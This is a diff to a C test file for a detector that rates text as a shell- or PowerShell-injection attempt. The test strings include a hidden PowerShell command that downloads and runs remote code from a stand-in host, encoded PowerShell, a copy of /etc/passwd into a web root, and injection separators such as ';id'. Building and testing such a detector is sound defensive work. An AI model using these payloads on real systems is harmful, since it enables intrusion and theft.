@@ -267,12 +267,13 @@ static void values_alone(void)
     NONE("cat videos");
     /* a sentence that starts with a command's name: function words where a
      * command line has flags, redirections or code; weak (never flagged
-     * alone) when it names a system path */
-    WEAK("move it to /var/www");
-    WEAK("cp the config to /etc/nginx");
-    WEAK("ssh into the box with ~/.ssh/id_ed25519");
-    WEAK("/usr/bin/python or /usr/bin/python3");
-    WEAK("rsync from /home to D:\\backup");
+     * alone) only when it names a secret ([targets]) */
+    NONE("move it to /var/www");
+    NONE("cp the config to /etc/nginx");
+    NONE("ssh into the box with ~/.ssh/id_ed25519");
+    NONE("/usr/bin/python or /usr/bin/python3");
+    NONE("rsync from /home to D:\\backup");
+    WEAK("cat the /etc/shadow file, what is it for?");
     NONE("cp the notes to ./docs");      /* a path, not a system one */
     STRONG("cp /etc/passwd /var/www/html/p.txt", "sh:cp");
     WEAK("cp -r the /etc /tmp/x");  /* typed alone, no secret named */
@@ -358,7 +359,7 @@ static void powershell(void)
     STRONG("&%SystemRoot%\\system32\\cmd.exe /c ver", "ver");
     STRONG("&echo %PATH:~0,1%", "cmd:%var:~");
     STRONG(";$env:ComSpec", "ps:$env:");
-    WEAK("Where is %SystemRoot% on Windows 10?");
+    NONE("Where is %SystemRoot% on Windows 10?");
     STRONG("& powershell -enc SQBFAFgAIAAoAGkAdwByACkA", "powershell");
     STRONG("powershell -EncodedCommand JABjAGwAaQBlAG4AdAA=", "powershell");
     STRONG("& powershell.exe -nop -w hidden -c \"iex(iwr http://x.example/a)\"", "iex");
@@ -551,7 +552,7 @@ static void benign(void)
      * path or a URL stay strong */
     NONE("<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>sudo systemctl "
          "restart php8.2-fpm</code></pre>\n<!-- /wp:code -->");
-    WEAK("x\n<p>echo is not working, it prints $HOME literally</p>");
+    NONE("x\n<p>echo is not working, it prints $HOME literally</p>");
     WEAK("x\n<pre><code>ls -la /var/www/html | grep wp-config</code></pre>");
     STRONG("x\n<b>id", "sh:\\nid");
     STRONG("x\n<b>ls -la</b>\n;id", "sh:;id");
